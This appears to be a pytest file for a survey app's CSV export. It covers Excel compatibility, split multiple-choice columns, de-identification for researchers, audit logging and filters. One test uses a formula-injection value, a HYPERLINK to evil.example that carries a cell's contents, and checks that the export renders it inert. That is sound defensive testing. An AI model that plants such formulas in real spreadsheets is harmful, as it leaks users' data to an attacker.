"""A researcher downloads submissions as CSV that Excel opens with Chinese intact: one row
per submission, one column per question, select_multiple split into 0/1 columns."""

from __future__ import annotations

import csv
import io

import pytest

from fieldapp.extensions import db
from tests.helpers import SCREENING, export, login, screening_answers, switch_user, xlsform


def _download(client, world, query="", as_researcher=False) -> tuple[bytes, list[dict]]:
    """Download as the admin with identifying data, or as a researcher (de-identified)."""
    if as_researcher:
        switch_user(client, world.researcher)
    else:
        switch_user(client, world.admin)
        query = f"{query}&identifying=1" if query else "?identifying=1"
    resp = export(client, f"/data/family_screening/export.csv{query}")
    assert resp.status_code == 200
    assert resp.headers["Content-Type"].startswith("text/csv")
    raw = resp.data
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    return raw, rows


def test_csv_opens_in_excel_with_chinese_and_one_column_per_question(client, world, submit):
    [iid] = submit(SCREENING, [screening_answers()])
    raw, rows = _download(client, world)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads it as UTF-8
    assert len(rows) == 1
    row = rows[0]
    assert row["instance_id"] == iid
    assert row["form_version"] == "2026120201"
    assert row["submitted_by"] == "mediator" and row["area_name"] == "和平社区"
    assert row["household_info/household_head"] == "李梅"
    assert row["household_info/phone"] == "13812345678"
    assert row["household/household_members[1]/member_name"] == "李梅"
    assert row["household/household_members[2]/member_age"] == "15"
    assert row["household/member_count"] == "2"
    assert "intro" not in row and "meta/instanceID" not in row  # notes and the key


def test_select_multiple_is_joined_and_split_with_blank_when_unanswered(client, world, submit):
    submit(
        SCREENING,
        [
            screening_answers(),
            screening_answers(
                **{
                    "situation.has_conflict": "no",
                    "situation.conflict_types": "",
                    "risk.referral": "none",
                }
            ),
        ],
    )
    _, rows = _download(client, world)
    chosen, unanswered = rows
    assert chosen["situation/conflict_types"] == "family_conflict dv"
    split = [k for k in chosen if k.startswith("situation/conflict_types/")]
    assert split == [
        f"situation/conflict_types/{c}"
        for c in ("family_conflict", "dv", "gambling", "drugs", "marital", "elder_support", "other")
    ]
    assert [chosen[k] for k in split] == ["1", "1", "0", "0", "0", "0", "0"]
    assert [unanswered[k] for k in split] == [""] * 7  # not answered: empty, never 0
    assert unanswered["risk/referral/none"] == "1" and unanswered["risk/referral/police"] == "0"


def test_labels_instead_of_codes_in_either_language(client, world, submit):
    submit(SCREENING, [screening_answers()])
    _, rows = _download(client, world, "?values=labels")
    assert rows[0]["situation/has_conflict"] == "是"
    assert rows[0]["risk/risk_level"] == "高"
    assert rows[0]["situation/conflict_types"].split("; ")[1] == "家庭暴力"
    assert rows[0]["situation/conflict_types/dv"] == "1"  # split columns stay 0/1
    _, rows = _download(client, world, "?values=labels&lang=English (en)")
    assert rows[0]["situation/has_conflict"] == "Yes"


def test_plain_utf8_without_bom_on_request(client, world, submit):
    submit(SCREENING, [screening_answers()])
    raw, _ = _download(client, world, "?bom=0")
    assert raw.startswith(b"instance_id,")


def test_submissions_of_two_versions_export_together(client, world, publish, submit, tmp_path):
    """Columns are the union of both versions, matched by question name."""
    v1 = tmp_path / "visits.xlsx"
    v1.write_bytes(
        xlsform(
            [["type", "name", "label"], ["integer", "age", "年龄"], ["text", "note_old", "旧问题"]],
            settings=[["form_id", "version"], ["visits", "1"]],
        )
    )
    v2 = tmp_path / "visits2.xlsx"
    v2.write_bytes(
        xlsform(
            [["type", "name", "label"], ["integer", "age", "年龄（周岁）"], ["text", "town", "镇"]],
            settings=[["form_id", "version"], ["visits", "2"]],
        )
    )
    publish(v1)
    publish(v2)
    submit("visits", [{"age": "30", "note_old": "旧"}], version="1")
    submit("visits", [{"age": "31", "town": "青石镇"}], version="2")
    login(client, world.researcher)
    text = client.get("/data/visits/export.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["form_version"], r["age"], r["note_old"], r["town"]) for r in rows] == [
        ("1", "30", "旧", ""),
        ("2", "31", "", "青石镇"),
    ]


def test_the_cli_exports_the_same_csv(app, submit, runner, tmp_path, monkeypatch):
    from fieldapp.cli import main

    submit(SCREENING, [screening_answers()])
    monkeypatch.setenv("FIELDAPP_DATABASE_URL", app.config["DATABASE_URL"])
    monkeypatch.setenv("FIELDAPP_INSTANCE_PATH", app.config["INSTANCE_PATH"])
    out = tmp_path / "out.csv"
    result = runner.invoke(main, ["export", "family_screening", "--identifying", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[0]["household_info/household_head"] == "李梅"


def test_answers_that_look_like_formulas_stay_inert_in_excel(client, world, submit):
    submit(
        SCREENING, [screening_answers(remarks='=HYPERLINK("http://evil.example/?d="&D2,"点击")')]
    )
    _, rows = _download(client, world)
    assert rows[0]["remarks"] == '\'=HYPERLINK("http://evil.example/?d="&D2,"点击")'
    assert rows[0]["household/household_members[1]/member_age"] == "41"  # numbers untouched


def test_huge_page_numbers_show_an_empty_page(client, world, publish):
    publish(SCREENING)
    login(client, world.researcher)
    assert client.get("/data/family_screening?page=99999999999999999999").status_code == 200


def test_a_researcher_gets_no_direct_identifier(client, world, submit):
    same_household = {"household_info.household_head": "李梅"}
    submit(SCREENING, [screening_answers(), screening_answers(**same_household)])
    raw, rows = _download(client, world, as_researcher=True)
    text = raw.decode("utf-8-sig")
    for identifying in ("李梅", "张小雨", "13812345678", "和平社区3栋12号"):
        assert identifying not in text
    assert "household_info/phone" not in rows[0] and "household_info/address" not in rows[0]
    first, second = rows
    pseudonym = first["household_info/household_head"]
    assert pseudonym.startswith("P-") and second["household_info/household_head"] == pseudonym
    assert first["household/household_members[2]/member_age"] == "15"  # the rest stays
    login(client, world.researcher)
    resp = client.get("/data/family_screening/export.csv?identifying=1")
    assert resp.status_code == 403


def test_every_export_is_audited_with_whether_it_identified(app, client, world, submit):
    from sqlalchemy import select

    from fieldapp.audit.models import AuditEvent

    submit(SCREENING, [screening_answers()])
    _download(client, world, as_researcher=True)
    _download(client, world)
    with app.app_context():
        events = db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id)
        ).all()
        assert [e.detail["identifying"] for e in events] == [False, True]


def test_filters_narrow_the_export(client, world, submit):
    submit(SCREENING, [screening_answers()])
    _, rows = _download(client, world, "?area=339901001001")
    assert len(rows) == 1
    _, rows = _download(client, world, "?area=339902")
    assert rows == []
    _, rows = _download(client, world, "?submitter=mediator2")
    assert rows == []
    _, rows = _download(client, world, "?from=2000-01-01&to=2000-01-02")
    assert rows == []
    login(client, world.admin)
    resp = client.get("/data/family_screening/export.csv?from=yesterday")
    assert resp.status_code == 400 and "日期" in resp.get_data(as_text=True)


def test_an_xls_questionnaire_marks_its_identifiers_too(client, world, submit, tmp_path):
    """Some authors still save the old .xls format: its fieldapp::identifier column
    counts the same as in .xlsx."""
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    rows = {
        "survey": [
            ["type", "name", "label", "fieldapp::identifier"],
            ["text", "woman_name", "妇女姓名", "pseudonym"],
            ["text", "phone", "电话", "remove"],
            ["integer", "age", "年龄", ""],
        ],
        "settings": [["form_id", "version"], ["legacy_visit", "1"]],
    }
    for title, lines in rows.items():
        sheet = book.add_sheet(title)
        for r, line in enumerate(lines):
            for c, value in enumerate(line):
                sheet.write(r, c, value)
    path = tmp_path / "legacy_visit.xls"
    book.save(str(path))
    submit(path, [{"woman_name": "赵秀英", "phone": "13900001111", "age": "52"}])
    switch_user(client, world.researcher)
    text = client.get("/data/legacy_visit/export.csv").get_data(as_text=True)
    row = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert row["woman_name"].startswith("P-") and row["age"] == "52"
    assert "phone" not in row and "赵秀英" not in text and "13900001111" not in text


@pytest.mark.parametrize(
    ("query", "words"),
    [
        ("?values=xyz", "values"),
        ("?lang=klingon", "没有语言 klingon"),
        ("?from=2026-06-01&to=2026-01-01", "晚于结束日期"),
    ],
)
def test_options_that_make_no_sense_are_refused_with_a_reason(client, world, publish, query, words):
    publish(SCREENING)
    login(client, world.admin)
    for url in ("/data/family_screening/export.csv", "/data/family_screening/export"):
        resp = client.get(url + query)
        assert resp.status_code == 400 and words in resp.get_data(as_text=True), url
